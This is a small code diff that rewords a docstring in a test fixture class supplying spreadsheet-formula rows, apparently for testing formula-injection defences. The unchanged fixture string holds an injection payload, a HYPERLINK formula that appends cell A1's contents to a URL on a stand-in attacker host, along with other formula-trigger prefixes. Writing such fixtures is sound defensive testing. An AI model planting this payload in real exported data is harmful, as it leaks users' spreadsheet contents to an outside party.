@@ -152,7 +152,7 @@ class Marked(TenantRows):
 
 
 class Formulas(Marked):
-    """Rows whose texts are formulas to a spreadsheet, whichever character it splits lines at."""
+    """Rows whose texts are formulas to a spreadsheet, for every character it may split lines at."""
 
     TEXT = '=HYPERLINK("http://evil.example/"&A1,"x");=1+1\t@SUM(1)'
 
